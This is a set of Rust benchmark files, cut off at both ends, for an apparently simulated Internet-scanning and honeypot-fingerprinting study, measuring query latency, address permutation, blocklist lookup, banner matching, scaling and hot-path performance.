    json.push_str(&format!("  \"store_bytes\": {store_bytes},\n"));
    json.push_str(&format!("  \"mmap\": {mmap},\n"));
    json.push_str(&format!("  \"queries\": {n},\n"));
    json.push_str(&format!("  \"threads\": {threads},\n"));
    json.push_str(&format!("  \"wall_s\": {wall_s:.3},\n"));
    json.push_str(&format!("  \"qps\": {qps:.0},\n"));
    json.push_str(&format!(
        "  \"cache\": {{ \"hits\": {hits}, \"misses\": {misses} }},\n"
    ));
    json.push_str(
        "  \"note\": \"per-class latency of a seeded mixed workload against one \
         mmap'd QueryEngine shared by all threads; point = HostLookup (80% hits), \
         counts = bitmap AND + popcount, range = T64 block-pruned scans, table = \
         LRU-cached re-renders\",\n",
    );
    json.push_str("  \"classes\": [\n");
    for (i, (name, count, p50, p99)) in class_rows.iter().enumerate() {
        let comma = if i + 1 == class_rows.len() { "" } else { "," };
        json.push_str(&format!(
            "    {{ \"class\": \"{name}\", \"count\": {count}, \"p50_us\": {p50:.2}, \"p99_us\": {p99:.2} }}{comma}\n"
        ));
    }
    json.push_str("  ]\n}\n");

    let path = std::env::var("BENCH_QUERY_OUT").unwrap_or_else(|_| {
        concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_query.json").to_string()
    });
    match std::fs::write(&path, &json) {
        Ok(()) => println!("wrote {path}"),
        Err(e) => eprintln!("could not write {path}: {e}"),
    }

    // CI budget: the point-lookup tail must stay under the given budget.
    if let Ok(budget) = std::env::var("BENCH_QUERY_P99_BUDGET_US") {
        let budget: f64 = budget.parse().expect("BENCH_QUERY_P99_BUDGET_US");
        if point_p99 > budget {
            eprintln!("FAIL: point-lookup p99 {point_p99:.2} us > budget {budget:.2} us");
            std::process::exit(1);
        }
        println!("point-lookup p99 {point_p99:.2} us within budget {budget:.2} us");
    }
    // The acceptance bar from the issue: indexed point lookups stay sub-100us
    // at the median. Always checked, so a silent regression can't ship.
    assert!(
        point_p50 < 100.0,
        "point-lookup p50 {point_p50:.2} us >= 100 us"
    );
}
