//! Ablation benchmarks for the design choices DESIGN.md calls out:
//!
//! * `zmap_permutation` — cyclic-group iteration vs a linear sweep
//!   (correctness-neutral; the permutation buys subnet spread, quantified
//!   in the printed diagnostic, at what iteration cost?);
//! * `cidr_trie` — trie membership vs linear blocklist scan;
//! * `banner_match` — Aho-Corasick signature matching vs naive per-pattern
//!   search over realistic banners;
//! * `single_vs_multi_port` — the Telnet 23-only sweep (Project Sonar's
//!   view) vs the 23+2323 sweep (ours): the Table 4 delta's cost side.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;
use std::net::Ipv4Addr;

use ofh_devices::population::{PopulationBuilder, PopulationSpec};
use ofh_devices::Universe;
use ofh_fingerprint::matcher::naive_find_all;
use ofh_fingerprint::SignatureDb;
use ofh_honeypots::WildHoneypot;
use ofh_net::{Cidr, CidrSet, SimNet, SimNetConfig};
use ofh_scan::{scan_start, AddressPermutation, Scanner, ScannerConfig};
use ofh_wire::Protocol;

fn zmap_permutation(c: &mut Criterion) {
    let size = 1u64 << 18;
    let mut g = c.benchmark_group("ablation/zmap_permutation");
    g.throughput(Throughput::Elements(size));
    g.bench_function("cyclic_group", |b| {
        b.iter(|| {
            let mut acc = 0u64;
            for v in AddressPermutation::new(size, 4) {
                acc = acc.wrapping_add(v);
            }
            black_box(acc)
        })
    });
    g.bench_function("linear_sweep", |b| {
        b.iter(|| {
            let mut acc = 0u64;
            for v in 0..size {
                acc = acc.wrapping_add(v);
            }
            black_box(acc)
        })
    });
    g.finish();

    // Diagnostic (printed once): subnet spread in the first 256 probes.
    let perm: Vec<u64> = AddressPermutation::new(size, 4).take(256).collect();
    let spread: std::collections::HashSet<u64> = perm.iter().map(|v| v >> 10).collect();
    eprintln!(
        "[ablation] permutation hits {} distinct /22-equivalents in its first \
         256 probes; a linear sweep hits 1",
        spread.len()
    );
}

fn cidr_trie(c: &mut Criterion) {
    // A FireHOL-ish blocklist: 512 prefixes.
    let blocks: Vec<Cidr> = (0..512u32)
        .map(|i| Cidr::new(Ipv4Addr::from(i << 20), 12 + (i % 12) as u8).unwrap())
        .collect();
    let set = CidrSet::from_blocks(blocks);
    let probes: Vec<Ipv4Addr> = (0..4_096u32).map(|i| Ipv4Addr::from(i * 1_048_573)).collect();
    let mut g = c.benchmark_group("ablation/cidr_blocklist");
    g.throughput(Throughput::Elements(probes.len() as u64));
    g.bench_function("trie", |b| {
        b.iter(|| {
            let mut hits = 0u32;
            for &p in &probes {
                hits += set.contains(p) as u32;
            }
            black_box(hits)
        })
    });
    g.bench_function("linear", |b| {
        b.iter(|| {
            let mut hits = 0u32;
            for &p in &probes {
                hits += set.contains_linear(p) as u32;
            }
            black_box(hits)
        })
    });
    g.finish();
}

fn banner_match(c: &mut Criterion) {
    let db = SignatureDb::new();
    let patterns: Vec<Vec<u8>> = WildHoneypot::ALL.iter().map(|f| f.signature().to_vec()).collect();
    // A mixed corpus: mostly benign banners, some honeypots.
    let mut corpus: Vec<Vec<u8>> = Vec::new();
    for i in 0..2_000u32 {
        corpus.push(match i % 10 {
            0 => {
                let mut b = WildHoneypot::ALL[(i as usize / 10) % 9].signature().to_vec();
                b.extend_from_slice(b"\r\n$ ");
                b
            }
            1 => b"\xff\xfb\x01\xff\xfb\x03PK5001Z login:\r\nlogin: ".to_vec(),
            2 => b"192.168.0.64 login:".to_vec(),
            _ => format!("Welcome to device-{i}\r\nlogin: ").into_bytes(),
        });
    }
    let mut g = c.benchmark_group("ablation/banner_match");
    g.throughput(Throughput::Elements(corpus.len() as u64));
    g.bench_function("aho_corasick", |b| {
        b.iter(|| {
            let mut hits = 0u32;
            for banner in &corpus {
                hits += db.match_banner(banner).is_some() as u32;
            }
            black_box(hits)
        })
    });
    g.bench_function("naive", |b| {
        b.iter(|| {
            let mut hits = 0u32;
            for banner in &corpus {
                hits += (!naive_find_all(&patterns, banner).is_empty()) as u32;
            }
            black_box(hits)
        })
    });
    g.finish();
}

fn single_vs_multi_port(c: &mut Criterion) {
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 14);
    let run = |ports: Vec<u16>| {
        let seed = 3;
        let population = PopulationBuilder::new(PopulationSpec {
            universe,
            scale: 65_536,
            seed,
        })
        .build();
        let mut net = SimNet::new(SimNetConfig { seed, ..SimNetConfig::default() });
        population.attach_all(&mut net);
        let mut cfg = ScannerConfig::full(
            Protocol::Telnet,
            universe.cidr().first(),
            universe.size(),
            scan_start(Protocol::Telnet),
            seed,
        );
        cfg.ports = ports;
        let end = Scanner::estimated_end(&cfg);
        let id = net.attach(universe.scanner_addr(), Box::new(Scanner::new("bench", vec![cfg])));
        net.run_until(end);
        net.agent_downcast::<Scanner>(id).unwrap().results.exposed_hosts(Protocol::Telnet)
    };
    let mut g = c.benchmark_group("ablation/telnet_ports");
    g.sample_size(10);
    g.bench_function("port_23_only(sonar_view)", |b| b.iter(|| black_box(run(vec![23]))));
    g.bench_function("ports_23_and_2323(zmap_view)", |b| {
        b.iter(|| black_box(run(vec![23, 2_323])))
    });
    g.finish();
    eprintln!(
        "[ablation] 23-only finds {} Telnet hosts; 23+2323 finds {} — the Table 4 delta",
        run(vec![23]),
        run(vec![23, 2_323])
    );
}

criterion_group!(benches, zmap_permutation, cidr_trie, banner_match, single_vs_multi_port);
criterion_main!(benches);
