//! `--bench scaling` — the published scaling curve.
//!
//! Runs the quick and paper-smoke presets across a shards × workers grid
//! and emits a cores-vs-wall-clock curve into `BENCH_scaling.json` at the
//! workspace root. Reading the file:
//!
//! * **Rows with the same `(preset, shards)` and growing `workers`** are
//!   the execution-scaling curve: identical bytes out (the determinism
//!   suites prove it), wall clock ideally dropping until `workers` reaches
//!   `min(host cores, shards)`. `speedup_x` is against the `workers=1` row
//!   of the same `(preset, shards)`.
//! * **Rows with different `shards`** are *different traces* (shard count
//!   is a semantic knob) — compare their wall clocks, never their outputs.
//!   More shards = more parallelism headroom (the curve keeps rising past
//!   16 workers only at shards ≥ 64) at a small fixed per-shard cost,
//!   visible in the `workers=1` rows.
//! * `host_cores` bounds every curve: on a 1-core container all curves are
//!   flat and the grid only records scheduler overhead. Cells whose
//!   effective worker count (`min(workers, shards)`) exceeds `host_cores`
//!   are marked `flat_curve_expected: true` so curve consumers don't read
//!   their `speedup_x` as a regression.
//!
//! Modes: `cargo bench -p ofh-bench --bench scaling` times the full grid;
//! `BENCH_SCALING_MINI=1` runs a bounded 2×2 quick-only grid (CI exercises
//! the harness this way); `BENCH_SCALING_FULL=1` additionally times
//! paper-scale at shards=64 (~minutes); `BENCH_SCALING_OUT=path` redirects
//! the JSON; `-- --test` smokes one cell and writes nothing.

use std::hint::black_box;
use std::time::Instant;

use ofh_core::{Study, StudyConfig};

struct Cell {
    preset: &'static str,
    shards: u32,
    workers: usize,
    wall_s: f64,
    speedup_x: f64,
    /// True when this cell cannot beat the `workers=1` row: its effective
    /// worker count (workers capped at shards) exceeds the host's cores,
    /// so the extra threads time-slice one another. On a 1-core host every
    /// multi-worker cell carries this flag — `speedup_x` there records
    /// scheduler overhead, not a scaling defect.
    flat_curve_expected: bool,
}

fn preset_cfg(preset: &str, seed: u64) -> StudyConfig {
    match preset {
        "quick" => StudyConfig::quick(seed),
        "paper-smoke" => StudyConfig::paper_smoke(seed),
        other => unreachable!("no preset {other} in the scaling grid"),
    }
}

/// Wall clock of one grid cell, best of `reps` (min strips scheduler noise
/// without averaging in cold-cache outliers).
fn time_cell(preset: &str, shards: u32, workers: usize, reps: u32) -> f64 {
    let mut best = f64::MAX;
    for _ in 0..reps {
        let mut cfg = preset_cfg(preset, 7);
        cfg.shards = shards;
        cfg.workers = workers;
        let t0 = Instant::now();
        let report = Study::new(cfg).run();
        black_box(report.counters.events_processed);
        best = best.min(t0.elapsed().as_secs_f64());
    }
    best
}

fn main() {
    if std::env::args().any(|a| a == "--test") {
        // Smoke mode: one cell through the full path, nothing written.
        let s = time_cell("quick", 16, 1, 1);
        println!("test scaling/quick_16x1 ... ok (single pass, {s:.3} s)");
        return;
    }
    let mini = std::env::var_os("BENCH_SCALING_MINI").is_some();
    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);

    // The grid. Workers beyond the shard count are capped by the engine to
    // no effect, so each preset stops at its shard count; the worker axis
    // deliberately runs past 16 to show where the old fixed-16 partition
    // plateaued and the 64-way one keeps going (given the cores).
    let grid: Vec<(&'static str, u32, Vec<usize>, u32)> = if mini {
        vec![
            ("quick", 16, vec![1, 2], 1),
            ("quick", 64, vec![1, 2], 1),
        ]
    } else {
        vec![
            ("quick", 16, vec![1, 2, 4, 8, 16], 2),
            ("quick", 64, vec![1, 2, 4, 8, 16, 32, 64], 2),
            ("paper-smoke", 16, vec![1, 4, 16], 2),
            ("paper-smoke", 64, vec![1, 4, 16, 32, 64], 2),
        ]
    };

    let mut cells: Vec<Cell> = Vec::new();
    for (preset, shards, workers_axis, reps) in grid {
        let mut base_s = None;
        for workers in workers_axis {
            let wall_s = time_cell(preset, shards, workers, reps);
            let base = *base_s.get_or_insert(wall_s);
            let speedup_x = base / wall_s.max(1e-9);
            let flat_curve_expected = workers.min(shards as usize) > cores;
            let note = if flat_curve_expected { "  [flat curve expected]" } else { "" };
            println!(
                "bench scaling/{preset}/shards={shards}/workers={workers:<3} {wall_s:>8.3} s  ({speedup_x:.2}x vs workers=1){note}"
            );
            cells.push(Cell { preset, shards, workers, wall_s, speedup_x, flat_curve_expected });
        }
    }

    // Paper-scale is minutes, not seconds: only on request, shards=64,
    // workers=0 (one per core — the documented way to run it).
    let paper_scale = std::env::var_os("BENCH_SCALING_FULL").map(|_| {
        println!("timing paper-scale at shards=64, workers=0 (BENCH_SCALING_FULL set)...");
        let mut cfg = StudyConfig::paper_scale(7);
        cfg.workers = 0;
        let t0 = Instant::now();
        let report = Study::new(cfg).run();
        black_box(report.counters.events_processed);
        let s = t0.elapsed().as_secs_f64();
        println!("bench scaling/paper-scale/shards=64/workers={cores}: {s:.1} s");
        s
    });

    // ---- Emit BENCH_scaling.json ---------------------------------------
    let mut json = String::from("{\n");
    json.push_str("  \"schema\": 1,\n");
    json.push_str(&format!("  \"host_cores\": {cores},\n"));
    json.push_str(&format!("  \"mini\": {mini},\n"));
    json.push_str(
        "  \"note\": \"speedup_x is vs the workers=1 row of the same (preset, shards); \
         shard count is a semantic knob (different trace per count), workers a pure \
         execution knob (identical bytes per count). Curves cannot rise past \
         min(host_cores, shards) — cells where the effective worker count exceeds \
         host_cores carry flat_curve_expected: true, and on a 1-core host that is \
         every multi-worker cell (wall clock may even rise with workers there, \
         which is scheduler overhead, not a scaling defect). --workers 0 \
         auto-selects min(host_cores, shards), so auto runs never enter the \
         flat region.\",\n",
    );
    json.push_str("  \"cells\": [\n");
    for (i, c) in cells.iter().enumerate() {
        let comma = if i + 1 == cells.len() { "" } else { "," };
        json.push_str(&format!(
            "    {{ \"preset\": \"{}\", \"shards\": {}, \"workers\": {}, \"wall_s\": {:.3}, \"speedup_x\": {:.2}, \"flat_curve_expected\": {} }}{comma}\n",
            c.preset, c.shards, c.workers, c.wall_s, c.speedup_x, c.flat_curve_expected
        ));
    }
    json.push_str("  ],\n");
    json.push_str(&format!(
        "  \"paper_scale_shards64_s\": {}\n",
        paper_scale.map_or("null".into(), |s| format!("{s:.1}"))
    ));
    json.push_str("}\n");

    let path = std::env::var("BENCH_SCALING_OUT").unwrap_or_else(|_| {
        concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_scaling.json").to_string()
    });
    match std::fs::write(&path, &json) {
        Ok(()) => println!("wrote {path}"),
        Err(e) => eprintln!("could not write {path}: {e}"),
    }
}
