//! Hot-path microbenchmarks backing DESIGN.md's "Hot-path memory model":
//! event-queue throughput, pooled payloads vs `Vec` clones, cached probe
//! templates vs per-address encodes, and the dense / hashmap / naive banner
//! matchers.
//!
//! Unlike the criterion benches, this harness also *records* its headline
//! numbers: bench mode rewrites `BENCH_hotpath.json` at the workspace root.
//! Set `BENCH_FULL=1` to additionally time a full-preset study run (about a
//! minute) so the JSON carries the end-to-end wall clock next to the pre-PR
//! baseline. Under `cargo bench ... -- --test` (how ci.sh smokes the bench
//! suite) every body runs exactly once and nothing is written.

use std::hint::black_box;
use std::time::{Duration, Instant};

use ofh_core::{Study, StudyConfig};
use ofh_fingerprint::matcher::naive_find_all;
use ofh_fingerprint::{AhoCorasick, SparseAhoCorasick};
use ofh_honeypots::WildHoneypot;
use ofh_net::event::{EventQueue, HeapQueue};
use ofh_net::{Payload, PayloadBuilder, SimTime, TimerWheel};
use ofh_scan::probe;
use ofh_wire::Protocol;

/// Full-preset `full_run` wall clock at the commit before this PR
/// (seed 7, 1 worker, this container) — the ≥25% improvement target.
const FULL_RUN_BASELINE_S: f64 = 64.8;

struct Harness {
    smoke: bool,
    results: Vec<(String, f64)>,
}

impl Harness {
    fn new() -> Harness {
        Harness {
            smoke: std::env::args().any(|a| a == "--test"),
            results: Vec::new(),
        }
    }

    /// Measure `f` with the same adaptive loop the vendored criterion uses;
    /// record ns/iter under `name`. Smoke mode runs a single pass.
    fn time<O>(&mut self, name: &str, mut f: impl FnMut() -> O) {
        if self.smoke {
            black_box(f());
            println!("test hotpath/{name} ... ok (single pass)");
            return;
        }
        let t0 = Instant::now();
        black_box(f());
        let first = t0.elapsed().max(Duration::from_nanos(1));
        let iters =
            (Duration::from_millis(300).as_nanos() / first.as_nanos()).clamp(1, 10_000) as u64;
        let start = Instant::now();
        for _ in 0..iters {
            black_box(f());
        }
        let per_iter = start.elapsed().as_secs_f64() * 1e9 / iters as f64;
        println!("bench hotpath/{name:<44} {per_iter:>14.1} ns/iter");
        self.results.push((name.to_string(), per_iter));
    }
}

/// One quick-preset study run with the given observability settings and
/// fault schedule; returns the wall clock in seconds.
fn study_run_s(obs: ofh_core::obs::ObsConfig, faults: &str) -> f64 {
    let mut cfg = StudyConfig::quick(7);
    cfg.obs = obs;
    cfg.faults = ofh_core::faults_from_arg(faults).expect("named fault preset");
    let t0 = Instant::now();
    let report = Study::new(cfg).run();
    black_box(report.counters.events_processed);
    t0.elapsed().as_secs_f64()
}

/// Schedule-then-pop churn at a live queue depth of `depth`, with one
/// out-of-order event per eight to exercise the heap lane too.
fn event_queue_churn(depth: u64) -> u64 {
    let mut q = EventQueue::new();
    let mut acc = 0u64;
    for i in 0..depth {
        q.schedule(SimTime(i * 10), i);
    }
    for i in depth..(depth * 4) {
        let jitter = if i % 8 == 0 { 5 } else { 100 + (i % 7) };
        let (t, v) = q.pop().expect("queue stays non-empty");
        acc ^= t.0.wrapping_add(v);
        q.schedule(SimTime(t.0 + jitter), i);
    }
    while let Some((t, v)) = q.pop() {
        acc ^= t.0.wrapping_add(v);
    }
    acc
}

/// The same churn pattern driven through a raw `(tick, seq, payload)` queue —
/// `TimerWheel` and its `HeapQueue` differential oracle share this shape, so
/// one generic body benchmarks both backends on identical workloads.
macro_rules! raw_queue_churn {
    ($queue:expr, $depth:expr) => {{
        let mut q = $queue;
        let depth: u64 = $depth;
        let mut acc = 0u64;
        for i in 0..depth {
            q.insert(i * 10, i, i);
        }
        for i in depth..(depth * 4) {
            let jitter = if i % 8 == 0 { 5 } else { 100 + (i % 7) };
            let (t, _, v) = q.pop().expect("queue stays non-empty");
            acc ^= t.wrapping_add(v);
            q.insert(t + jitter, i, i);
        }
        while let Some((t, _, v)) = q.pop() {
            acc ^= t.wrapping_add(v);
        }
        acc
    }};
}

fn main() {
    let mut h = Harness::new();

    // ---- Event queue ----------------------------------------------------
    h.time("event_queue/schedule_pop_4k", || event_queue_churn(4096));
    h.time("event_queue/wheel_pop_4k", || {
        raw_queue_churn!(TimerWheel::new(), 4096)
    });
    h.time("event_queue/heap_pop_4k", || {
        raw_queue_churn!(HeapQueue::new(), 4096)
    });
    let bench_ns = |h: &Harness, name: &str| {
        h.results
            .iter()
            .find(|(n, _)| n == name)
            .map(|&(_, ns)| ns)
    };
    if let (Some(wheel_ns), Some(heap_ns)) = (
        bench_ns(&h, "event_queue/schedule_pop_4k"),
        bench_ns(&h, "event_queue/heap_pop_4k"),
    ) {
        // The apples-to-apples number: the heap oracle re-measured in this
        // same run over the identical churn. (A recorded 801 µs pre-PR heap
        // baseline used to be reported too, but it was taken on a faster
        // machine state and no longer reproduces on this container, so the
        // same-run ratio is the one recorded.)
        println!(
            "bench event_queue: same-run heap {heap_ns:.0} ns -> wheel {wheel_ns:.0} ns ({:.1}x)",
            heap_ns / wheel_ns
        );
    }

    // ---- Payload pool vs Vec clone --------------------------------------
    let datagram = vec![0x42u8; 600];
    h.time("payload/vec_clone_600B", || black_box(&datagram).clone());
    // 600 B is below POOL_MIN_CAPACITY, so freeze seals this as a plain
    // shared Vec and the buffer never cycles through the pool (the
    // builder still pays one pool probe in new(); the per-size policy
    // comparison is the payload_crossover grid below).
    h.time("payload/pooled_roundtrip_600B", || {
        let mut b = PayloadBuilder::new();
        b.extend_from_slice(black_box(&datagram));
        b.freeze()
    });
    let shared: Payload = datagram.clone().into();
    h.time("payload/shared_clone_600B", || black_box(&shared).clone());

    // ---- Pool crossover grid --------------------------------------------
    // Both payload paths at each size: `plain` allocates a fresh Vec and
    // seals it shared; `pool` recycles a pooled buffer (reserving
    // POOL_MIN_CAPACITY keeps the build pool-eligible at every size, so
    // the grid measures the mechanism, not freeze's policy). The recorded
    // crossover — the first size where the pool wins — is what
    // POOL_MIN_CAPACITY is set from.
    let grid_sizes: [usize; 6] = [64, 256, 1024, 4096, 16384, 65536 - 64];
    let mut crossover_rows: Vec<(usize, f64, f64)> = Vec::new();
    for &size in &grid_sizes {
        let data = vec![0x42u8; size];
        let plain_name = format!("payload/plain_roundtrip_{size}B");
        let pool_name = format!("payload/pool_roundtrip_{size}B");
        h.time(&plain_name, || Payload::from(black_box(&data).clone()));
        h.time(&pool_name, || {
            let mut b = PayloadBuilder::new();
            b.reserve(ofh_net::POOL_MIN_CAPACITY.max(black_box(&data).len()));
            b.extend_from_slice(&data);
            b.freeze()
        });
        if let (Some(plain), Some(pool)) =
            (bench_ns(&h, &plain_name), bench_ns(&h, &pool_name))
        {
            crossover_rows.push((size, plain, pool));
        }
    }
    let crossover_b = crossover_rows
        .iter()
        .find(|(_, plain, pool)| pool < plain)
        .map(|&(size, _, _)| size);
    if !h.smoke {
        println!(
            "bench payload: pool wins from {} (POOL_MIN_CAPACITY = {})",
            crossover_b.map_or("never".into(), |s| format!("{s} B")),
            ofh_net::POOL_MIN_CAPACITY
        );
    }

    // ---- Probe templates vs per-address encodes -------------------------
    let templates = probe::ProbeTemplates::new();
    let mut mid = 0u16;
    h.time("probe/coap_encode_fresh", || {
        mid = mid.wrapping_add(1);
        probe::udp_probe(Protocol::Coap, mid)
    });
    h.time("probe/coap_template_patch", || {
        mid = mid.wrapping_add(1);
        templates.udp_probe(Protocol::Coap, mid)
    });
    h.time("probe/mqtt_encode_fresh", || {
        probe::tcp_opening(Protocol::Mqtt)
    });
    h.time("probe/mqtt_template_clone", || {
        templates.tcp_opening(Protocol::Mqtt)
    });

    // ---- Banner matching: dense vs hashmap-goto vs naive ----------------
    let patterns: Vec<Vec<u8>> = WildHoneypot::ALL
        .iter()
        .map(|f| f.signature().to_vec())
        .collect();
    let dense = AhoCorasick::new(&patterns);
    let sparse = SparseAhoCorasick::new(&patterns);
    // A realistic corpus: mostly non-matching device banners, a few hits.
    let mut corpus: Vec<Vec<u8>> = (0..64u32)
        .map(|i| {
            format!("\u{ff}\u{fb}\u{1}BusyBox v1.{i}.0 (2020-01-01) built-in shell\r\nlogin: ")
                .into_bytes()
        })
        .collect();
    for f in WildHoneypot::ALL {
        let mut banner = b"prefix ".to_vec();
        banner.extend_from_slice(f.signature());
        corpus.push(banner);
    }
    let bytes: usize = corpus.iter().map(Vec::len).sum();
    h.time("match/dense_table", || {
        corpus.iter().map(|b| dense.find_all(b).len()).sum::<usize>()
    });
    h.time("match/hashmap_goto", || {
        corpus.iter().map(|b| sparse.find_all(b).len()).sum::<usize>()
    });
    h.time("match/naive", || {
        corpus
            .iter()
            .map(|b| naive_find_all(&patterns, b).len())
            .sum::<usize>()
    });
    if !h.smoke {
        println!("(match corpus: {} banners, {bytes} bytes)", corpus.len());
    }

    // ---- Observability overhead -----------------------------------------
    // The ofh-obs contract: enabling metrics + tracing + profiling costs
    // < 3% end-to-end. Shared-machine noise between individual quick runs
    // exceeds the effect being measured, so: run off/on as back-to-back
    // pairs (adjacent runs share scheduler/thermal conditions), alternate
    // the order within each pair (cancels monotone drift), and take the
    // *median* of the per-pair deltas.
    let obs_overhead = if h.smoke {
        black_box(study_run_s(ofh_core::obs::ObsConfig::default(), "none"));
        println!("test hotpath/obs_overhead ... ok (single pass)");
        None
    } else {
        study_run_s(ofh_core::obs::ObsConfig::disabled(), "none"); // warmup
        let (mut best_off, mut best_on) = (f64::MAX, f64::MAX);
        let mut deltas = Vec::new();
        for i in 0..9 {
            let (off, on) = if i % 2 == 0 {
                let off = study_run_s(ofh_core::obs::ObsConfig::disabled(), "none");
                (off, study_run_s(ofh_core::obs::ObsConfig::default(), "none"))
            } else {
                let on = study_run_s(ofh_core::obs::ObsConfig::default(), "none");
                (study_run_s(ofh_core::obs::ObsConfig::disabled(), "none"), on)
            };
            best_off = best_off.min(off);
            best_on = best_on.min(on);
            deltas.push(on - off);
        }
        deltas.sort_by(f64::total_cmp);
        let median_delta = deltas[deltas.len() / 2];
        let pct = 100.0 * median_delta / best_off;
        println!(
            "bench hotpath/obs_overhead: off {best_off:.3} s | on {best_on:.3} s | median-pair {pct:+.2}%"
        );
        Some((best_off, best_on, pct))
    };

    // ---- Live telemetry + flight recorder overhead ----------------------
    // The v2 additions measured on top of default observability: heartbeat
    // reporter at a deliberately aggressive 100 ms interval, the --live-out
    // JSONL stream, and an armed flight recorder (ring pushes on every span
    // plus the panic hook installed). Same paired-median protocol as
    // obs_overhead; budget < 3%.
    let obs_live_overhead = if h.smoke {
        None
    } else {
        let tmp = std::env::temp_dir().join(format!("ofh-bench-live-{}", std::process::id()));
        std::fs::create_dir_all(&tmp).ok();
        let live_cfg = || ofh_core::obs::ObsConfig {
            heartbeat: true,
            heartbeat_ms: 100,
            live_out: Some(tmp.join("live.jsonl").to_string_lossy().into_owned()),
            flight_dir: Some(tmp.to_string_lossy().into_owned()),
            ..ofh_core::obs::ObsConfig::default()
        };
        let (mut best_off, mut best_on) = (f64::MAX, f64::MAX);
        let mut deltas = Vec::new();
        for i in 0..9 {
            let (off, on) = if i % 2 == 0 {
                let off = study_run_s(ofh_core::obs::ObsConfig::default(), "none");
                (off, study_run_s(live_cfg(), "none"))
            } else {
                let on = study_run_s(live_cfg(), "none");
                (study_run_s(ofh_core::obs::ObsConfig::default(), "none"), on)
            };
            best_off = best_off.min(off);
            best_on = best_on.min(on);
            deltas.push(on - off);
        }
        std::fs::remove_dir_all(&tmp).ok();
        deltas.sort_by(f64::total_cmp);
        let median_delta = deltas[deltas.len() / 2];
        let pct = 100.0 * median_delta / best_off;
        println!(
            "bench hotpath/obs_live_overhead: base {best_off:.3} s | live+flight {best_on:.3} s | median-pair {pct:+.2}%"
        );
        Some((best_off, best_on, pct))
    };

    // ---- Fault overhead --------------------------------------------------
    // What running under an *active* fault schedule costs, measured in the
    // same run: quick preset with the hostile preset schedule vs the none
    // schedule (whose fault checks reduce to one `is_none()` branch).
    // Positive means "faults cost this much". An earlier version compared
    // the none run against a 0.424 s wall clock recorded before the fault
    // engine landed — a different, slower machine state — which printed a
    // confusing negative overhead.
    let fault_overhead = if h.smoke {
        None
    } else {
        let none_s = (0..3)
            .map(|_| study_run_s(ofh_core::obs::ObsConfig::default(), "none"))
            .fold(f64::MAX, f64::min);
        let hostile_s = (0..3)
            .map(|_| study_run_s(ofh_core::obs::ObsConfig::default(), "hostile"))
            .fold(f64::MAX, f64::min);
        let pct = 100.0 * (hostile_s - none_s) / none_s;
        println!(
            "bench hotpath/fault_overhead: none {none_s:.3} s | hostile {hostile_s:.3} s | {pct:+.2}%"
        );
        Some((none_s, hostile_s, pct))
    };

    // ---- Paper-scale presets --------------------------------------------
    // paper-smoke is the CI-sized twin of paper-scale: same 2^32 universe,
    // down-sampled population. Cheap enough to time on every bench run.
    let paper_smoke_s = if h.smoke {
        None
    } else {
        let t0 = Instant::now();
        let report = Study::new(StudyConfig::paper_smoke(7)).run();
        black_box(report.counters.events_processed);
        let secs = t0.elapsed().as_secs_f64();
        println!("bench hotpath/paper_smoke_run: {secs:.3} s (2^32 universe, 64 shards)");
        Some(secs)
    };

    // ---- Scaling spot-check ----------------------------------------------
    // Two points off the elastic-sharding curve (paper-smoke at shards=64,
    // workers 1 vs one-per-core); the full shards × workers grid lives in
    // BENCH_scaling.json (`cargo bench -p ofh-bench --bench scaling`).
    let scaling = if h.smoke {
        None
    } else {
        let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
        let smoke_cell = |workers: usize| {
            let mut cfg = StudyConfig::paper_smoke(7);
            cfg.shards = 64;
            cfg.workers = workers;
            let t0 = Instant::now();
            let report = Study::new(cfg).run();
            black_box(report.counters.events_processed);
            t0.elapsed().as_secs_f64()
        };
        let w1 = smoke_cell(1).min(smoke_cell(1));
        let wall = smoke_cell(0).min(smoke_cell(0));
        println!(
            "bench hotpath/scaling: paper-smoke shards=64 workers=1 {w1:.3} s | workers=auto/{cores} {wall:.3} s"
        );
        Some((w1, wall, cores))
    };

    // ---- Optional end-to-end wall clocks --------------------------------
    let (full_run_s, paper_scale_s) = if !h.smoke && std::env::var_os("BENCH_FULL").is_some() {
        println!("timing full-preset study run (BENCH_FULL set)...");
        let t0 = Instant::now();
        let report = Study::new(StudyConfig::full(7)).run();
        black_box(report.counters.events_processed);
        let full_s = t0.elapsed().as_secs_f64();
        println!("full_run: {full_s:.1} s (baseline {FULL_RUN_BASELINE_S} s)");
        println!("timing paper-scale study run (BENCH_FULL set, >1M hosts)...");
        let t0 = Instant::now();
        let mut cfg = StudyConfig::paper_scale(7);
        cfg.workers = 0; // one worker per core — the documented way to run it
        let report = Study::new(cfg).run();
        black_box(report.counters.events_processed);
        let scale_s = t0.elapsed().as_secs_f64();
        println!("paper_scale_run: {scale_s:.1} s (acceptance bar: 600 s)");
        (Some(full_s), Some(scale_s))
    } else {
        (None, None)
    };

    if h.smoke {
        return;
    }

    // ---- Emit BENCH_hotpath.json ---------------------------------------
    let (hits, misses) = Payload::pool_stats();
    let mut json = String::from("{\n  \"benchmarks_ns_per_iter\": {\n");
    for (i, (name, per)) in h.results.iter().enumerate() {
        let comma = if i + 1 == h.results.len() { "" } else { "," };
        json.push_str(&format!("    \"{name}\": {per:.1}{comma}\n"));
    }
    json.push_str("  },\n");
    json.push_str(&format!(
        "  \"payload_pool\": {{ \"hits\": {hits}, \"misses\": {misses} }},\n"
    ));
    {
        // The per-size plain-vs-pool grid and the measured crossover the
        // POOL_MIN_CAPACITY threshold is set from.
        json.push_str("  \"payload_crossover\": {\n");
        json.push_str(&format!(
            "    \"pool_min_capacity\": {},\n",
            ofh_net::POOL_MIN_CAPACITY
        ));
        json.push_str(&format!(
            "    \"pool_wins_from_bytes\": {},\n",
            crossover_b.map_or("null".into(), |s| s.to_string())
        ));
        json.push_str("    \"grid\": [\n");
        for (i, (size, plain, pool)) in crossover_rows.iter().enumerate() {
            let comma = if i + 1 == crossover_rows.len() { "" } else { "," };
            json.push_str(&format!(
                "      {{ \"bytes\": {size}, \"plain_ns\": {plain:.1}, \"pool_ns\": {pool:.1} }}{comma}\n"
            ));
        }
        json.push_str("    ]\n  },\n");
    }
    if let Some((off, on, pct)) = obs_overhead {
        json.push_str(&format!(
